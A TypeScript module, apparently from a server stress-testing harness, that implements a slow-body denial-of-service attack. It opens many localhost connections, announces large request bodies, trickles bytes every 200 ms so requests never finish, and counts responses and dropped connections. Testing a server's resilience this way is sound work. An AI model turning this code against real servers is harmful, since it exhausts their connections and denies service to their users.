import net from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import type { Tally } from './Tally.ts';
import type { Attack } from './Attack.ts';

interface Sending {
  connections: number;
  /** Method and content type of the requests. */
  method: string;
  type: string;
  /** Length that the request announces, what is sent at first, and what follows every 200 ms, in bytes. */
  announced: number;
  first: number;
  then: number;
  /** True: a connection that was ended is opened again. */
  isPersistent: boolean;
}

const EVERY_MS = 200;
/** Ended senders connect again after this time. */
const PAUSE_MS = 500;
/** Connections that are opened at once, every 200 ms. */
const GROUP = 60;

/** Returns an attack whose connections each begin a request and never complete its body. */
export function slowSenders(sending: Sending): (attack: Attack, tally: Tally, signal: AbortSignal) => Promise<void> {
  return async (attack, tally, signal) => {
    const all: Promise<void>[] = [];
    for (let number = 0; number < sending.connections && !signal.aborted; number += 1) {
      if (number > 0 && number % GROUP === 0) await delay(EVERY_MS);
      all.push(send(sending, attack, number, tally, signal));
    }
    await Promise.all(all);
  };
}

async function send(
  { method, type, announced, first, then, isPersistent }: Sending,
  { port, from, paths, token }: Attack,
  number: number,
  tally: Tally,
  signal: AbortSignal,
): Promise<void> {
  const path = paths[number % paths.length] ?? '/';
  const session = token === undefined ? {} : { authorization: `Bearer ${token}` };
  const all = { host: 'localhost', 'content-type': type, 'content-length': String(announced), ...session };
  const head = Object.entries(all).map(([name, value]) => `${name}: ${value}\r\n`);
  do {
    tally.sent += 1;
    tally.open += 1;
    const socket = net.connect({ host: '127.0.0.1', port, localAddress: from[number % from.length] ?? '' });
    socket.on('error', () => undefined);
    socket.once('data', (bytes) => tally.count(Number(bytes.toString('latin1', 9, 12)))).resume();
    socket.write(`${method} ${path} HTTP/1.1\r\n${head.join('')}\r\n${'x'.repeat(first)}`);
    while (!signal.aborted && !socket.destroyed && !socket.readableEnded) {
      await delay(EVERY_MS);
      if (then > 0 && socket.writable) socket.write('x'.repeat(then));
    }
    tally.open -= 1;
    if (!signal.aborted) tally.broken += 1;
    socket.destroy();
    await delay(PAUSE_MS);
  } while (isPersistent && !signal.aborted);
}
